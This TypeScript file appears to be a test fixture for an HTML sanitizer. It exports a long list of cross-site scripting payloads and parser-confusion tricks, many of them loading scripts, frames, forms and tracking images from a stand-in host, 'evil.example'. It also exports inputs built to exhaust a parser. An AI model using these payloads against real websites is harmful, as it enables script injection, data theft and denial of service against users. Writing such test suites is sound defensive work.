// HTML made to run, to fetch or to lead away when somebody looks at it; HERE is where it would fetch from.

const HERE = 'http://evil.example';
/** A script that shows by its title and by a dialog that it ran. */
const RUN = "document.title='ran';alert(1)";
const IMAGE = `<img src=x onerror="${RUN}">`;

export const HOSTILE: [string, string][] = [
  // scripts
  ['a script', `<script>${RUN}</script>`],
  ['a script from elsewhere', `<script src="${HERE}/x.js"></script>`],
  ['a script in odd case, without an end', `<ScRiPt/x>${RUN}`],
  ['a script within a script', `<scr<script>ipt>${RUN}</scr</script>ipt>`],
  ['a script with null bytes', `<scr\0ipt>${RUN}</scr\0ipt><im\0g src=x onerror=${RUN}>`],
  ['a script after a broken comment', `<!--><script>${RUN}</script>-->`],
  ['a script after a comment that ends oddly', `<!-- --!><script>${RUN}</script>`],
  ['a conditional comment', `<!--[if gte IE 4]><script>${RUN}</script><![endif]-->`],
  ['a processing instruction', `<?xml version="1.0"?><?${IMAGE}`],
  ['CDATA', `<![CDATA[<script>${RUN}</script>]]>${IMAGE}`],
  // event handlers
  ['an image that fails', IMAGE],
  ['a handler behind a slash', `<img/src=x/onerror=${RUN}>`],
  ['a handler behind a line end', `<img src=x\nonerror\n=\n"${RUN}">`],
  ['a handler in quotes that do not match', `<img src="x\`onerror=${RUN}//">${IMAGE}`],
  ['a handler behind a quote in a name', `<p "=">${IMAGE}</p "onmouseover=${RUN}>`],
  ['a handler in an attribute that closes early', `<p title="&quot;><img src=x onerror=${RUN}>">x</p>`],
  ['a handler on focus', `<p tabindex=1 autofocus onfocus="${RUN}" contenteditable>x</p>`],
  [
    'a handler of an animation',
    `<style>@keyframes x{}</style><p style="animation-name:x" onanimationstart="${RUN}">x</p>`,
  ],
  ['a body that loads', `<body onload="${RUN}" onpageshow="${RUN}"><p>x</p></body>`],
  ['details that open', `<details open ontoggle="${RUN}"><summary>x</summary></details>`],
  ['a marquee', `<marquee onstart="${RUN}">x</marquee>`],
  ['media', `<video><source onerror="${RUN}"></video><audio src=x onerror="${RUN}" autoplay></audio>`],
  ['an input', `<input autofocus onfocus="${RUN}"><select autofocus onfocus="${RUN}"><option>x</select>`],
  ['a popover', `<button popovertarget=x>x</button><p popover id=x onbeforetoggle="${RUN}">x</p>`],
  ['elements nobody knows', `<x-y onclick="${RUN}" tabindex=1 autofocus onfocus="${RUN}">x</x-y>`],
  // addresses that run
  ['a link that is a script', `<a href="javascript:${RUN}">x</a>`],
  [
    'a link with entities',
    `<a href="&#106;avascript&colon;${RUN}">x</a><a href="java&Tab;script:${RUN}">x</a>`,
  ],
  ['a link with white space', `<a href=" \u0001java\nscript:${RUN}">x</a>`],
  ['a link that is data', `<a href="data:text/html,<script>${RUN}</script>">x</a>`],
  ['a link that is VBScript', `<a href="vbscript:MsgBox(1)">x</a>`],
  ['a link with a ping and a target', `<a href="${HERE}/" ping="${HERE}/ping" target=_top id=x>x</a>`],
  ['an address that closes its tag', `<a href='${HERE}/"><img src=x onerror=${RUN}>'>x</a>`],
  ['an area of a map', `<map name=m><area href="javascript:${RUN}" shape=default></map><img usemap=#m>`],
  // frames, objects, forms
  ['a frame', `<iframe src="javascript:${RUN}"></iframe><iframe src="${HERE}/"></iframe>`],
  ['a frame with a document in it', `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`],
  ['a frameset', `<frameset><frame src="${HERE}/"></frameset>`],
  ['an object', `<object data="${HERE}/x.swf"><param name=movie value=x>${IMAGE}</object>`],
  ['an embed', `<embed src="data:text/html,<script>${RUN}</script>"><applet code=x></applet>`],
  [
    'a form',
    `<form action="${HERE}/" id=f><input name=password><button>x</button></form><button form=f formaction="javascript:${RUN}">x</button>`,
  ],
  ['a form that sends itself', `<form action="${HERE}/"><input type=image src="${HERE}/i"></form>`],
  ['an isindex', `<isindex action="javascript:${RUN}" type=image>`],
  // the document around it
  ['a base', `<base href="${HERE}/"><a href="/x">x</a><img src="y.png">`],
  [
    'a refresh',
    `<meta http-equiv=refresh content="0;url=${HERE}/"><meta http-equiv=refresh content="0;javascript:${RUN}">`,
  ],
  [
    'a policy of its own',
    `<meta http-equiv=Content-Security-Policy content="default-src *"><meta charset=utf-7>`,
  ],
  [
    'links to style sheets and what is loaded ahead',
    `<link rel=stylesheet href="${HERE}/x.css"><link rel=prefetch href="${HERE}/p"><link rel=dns-prefetch href="//evil.example">`,
  ],
  ['a manifest', `<html manifest="${HERE}/m"><head profile="${HERE}/p"><title>${IMAGE}</title></head><p>x`],
  // styles
  ['a style sheet', `<style>@import url(${HERE}/x.css);body{background:url(${HERE}/b)}</style><p>x</p>`],
  ['a style without an end', `<p>x</p><style>*{background:url(${HERE}/b)}`],
  ['a background in a style', `<p style="background:url('${HERE}/b');color:red">x</p>`],
  [
    'a style with escapes',
    `<p style="background:u\\72l(${HERE}/b);background-image:\\75\\72\\6C(${HERE}/c)">x</p>`,
  ],
  [
    'a style with comments',
    `<p style="background:/**/url(${HERE}/b);color:red/*;*/;width:expression(${RUN})">x</p>`,
  ],
  [
    'a style with functions',
    `<p style="background:image-set('${HERE}/b' 1x);color:var(--x,url(${HERE}/c));list-style:url(${HERE}/d)">x</p>`,
  ],
  [
    'a style that covers the page',
    `<div style="position:fixed;inset:0;z-index:9;background-color:white">log in</div>`,
  ],
  ['a style that closes its attribute', `<p style="color:red&quot;><img src=x onerror=${RUN}>">x</p>`],
  [
    'a font from elsewhere',
    `<style>@font-face{font-family:x;src:url(${HERE}/f)}</style><font face=x>x</font>`,
  ],
  // images
  ['an image from elsewhere', `<img src="${HERE}/pixel.gif" width=1 height=1>`],
  ['an image without a scheme', `<img src="//evil.example/pixel.gif"><img src="\\\\evil.example\\x">`],
  [
    'an image with many sources',
    `<img srcset="${HERE}/a 1x, ${HERE}/b 2x" src=""><picture><source srcset="${HERE}/c">x</picture>`,
  ],
  [
    'an image by lazy loading',
    `<img loading=lazy data-src="${HERE}/a" lowsrc="${HERE}/b" dynsrc="${HERE}/c">`,
  ],
  ['an image called image', `<image src="${HERE}/a" onerror="${RUN}">x</image>`],
  [
    'an image that is a drawing',
    `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${RUN}'/>">`,
  ],
  [
    'an image that claims to be inline',
    `<img src="cid:${HERE}/a"><img src="cid:x&quot; onerror=${RUN}"><img src=cid:none>`,
  ],
  [
    'backgrounds of tables',
    `<table background="${HERE}/a"><tr background="${HERE}/b"><td background="${HERE}/c">x</td></tr></table>`,
  ],
  ['a background of the body', `<body background="${HERE}/a" bgcolor=red><p>x</p></body>`],
  ['a poster', `<video poster="${HERE}/a" src="${HERE}/b"><track src="${HERE}/c"></video>`],
  [
    'an address in a quotation',
    `<blockquote cite="${HERE}/a"><q cite="javascript:${RUN}">x</q></blockquote>`,
  ],
  // other namespaces, and what browsers parse differently
  ['SVG', `<svg onload="${RUN}"><script>${RUN}</script><image href="${HERE}/a"/></svg>`],
  [
    'SVG with a style',
    `<svg><style>{-o-link-source:'<body/onload=${RUN}>'}@import '${HERE}/x'</style></svg>`,
  ],
  [
    'SVG that is animated',
    `<svg><a><animate attributeName=href values="javascript:${RUN}"/><text>x</text></a></svg>`,
  ],
  [
    'SVG with a foreign object',
    `<svg><foreignObject><iframe srcdoc="${IMAGE}"></iframe></foreignObject></svg>`,
  ],
  [
    'SVG that uses another',
    `<svg><use href="data:image/svg+xml,<svg id=x><script>${RUN}</script></svg>#x"/></svg>`,
  ],
  ['MathML', `<math><maction actiontype=statusline xlink:href="javascript:${RUN}">x</maction></math>`],
  [
    'MathML that changes its mind',
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;${IMAGE.replaceAll('"', '')}">`,
  ],
  ['forms in forms', `<form><math><mtext></form><form><mglyph><style></math>${IMAGE}`],
  ['SVG and a title', `<svg></p><style><a id="</style>${IMAGE.replaceAll('"', "'")}">`],
  ['SVG in a select', `<select><svg><style></select>${IMAGE}</style></svg>`],
  ['noscript', `<noscript><p title="</noscript>${IMAGE.replaceAll('"', '')}"></noscript>`],
  [
    'noembed and noframes',
    `<noembed><p title="</noembed>${IMAGE.replaceAll('"', '')}"></noembed><noframes>${IMAGE}</noframes>`,
  ],
  [
    'a template',
    `<template><script>${RUN}</script>${IMAGE}</template><template shadowrootmode=open>${IMAGE}</template>`,
  ],
  ['a listing', `<listing>&lt;img src=x onerror=${RUN}&gt;</listing><xmp>${IMAGE}</xmp>`],
  ['a text area', `<textarea><p title="</textarea>${IMAGE.replaceAll('"', '')}"></textarea>`],
  ['plain text to the end', `<plaintext>${IMAGE}`],
  ['a title', `<title><p title="</title>${IMAGE.replaceAll('"', '')}"></title>`],
  [
    'entities that are tags',
    `&lt;script&gt;${RUN}&lt;/script&gt;&#60;img src=x onerror=${RUN}&#62;&amp;lt;b&amp;gt;`,
  ],
  ['entities without their end', `&lt;img src=x onerror&#61${RUN}&gt;&#0000060script&#62;${RUN}`],
  ['UTF-7', `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`],
  ['other spellings of brackets', `\u00bcscript\u00be${RUN}\u00bc/script\u00be\uff1cscript\uff1e${RUN}`],
  ['a tag that never ends', `<p>x</p><img src="${HERE}/a" onerror="${RUN}"`],
  ['an attribute that never ends', `<p>x</p><a href="${HERE}/>${IMAGE}`],
  ['tables that are taken apart', `<table><td>${IMAGE}<table><a href="javascript:${RUN}">x<svg><b>${IMAGE}`],
  [
    'names that are prototypes',
    `<p __proto__="x" constructor="y" onclick="${RUN}" toString=1>x</p><constructor>x</constructor>`,
  ],
  [
    'names that overwrite the page',
    `<a id=body name=location>x</a><img name=cookie><form name=document></form>`,
  ],
  [
    'elements of XML',
    `<xml><i><b>&lt;img src=x onerror=${RUN}></b></i></xml><?import namespace=t><t:set attributeName=innerHTML to="${IMAGE.replaceAll('"', '')}">`,
  ],
  ['quotes of other kinds', `<img src=\`x\` onerror=\`${RUN}\`><p style=\`background:url(${HERE}/a)\`>x</p>`],
  [
    'a handler between elements',
    `</p onclick="${RUN}"><//img src=x onerror=${RUN}>< img src=x onerror=${RUN}>`,
  ],
];

/** Built to keep a parser busy, or to break its stack. */
export const HEAVY: [string, string][] = [
  ['elements in elements', '<div>'.repeat(200_000)],
  ['end tags that fit nothing', '<b>x</i>'.repeat(120_000)],
  ['elements that close each other', '<b><i></p>'.repeat(90_000)],
  ['as deep as is allowed, and wide', `${'<div>'.repeat(480)}${'<b></i></b>'.repeat(80_000)}`],
  ['attributes without an end', `<p ${'a=b '.repeat(240_000)}>x`],
  ['a style without an end', `<p style="${'color:red;'.repeat(90_000)}">x`],
  ['comments that begin', '<!--'.repeat(240_000)],
  ['brackets', '<'.repeat(1_000_000)],
  ['entities', '&#x41'.repeat(190_000)],
  ['links', '<a href=http://a>x</a>'.repeat(45_000)],
  ['images', '<img>'.repeat(190_000)],
  ['tables', '<table><tr><td>'.repeat(66_000)],
];
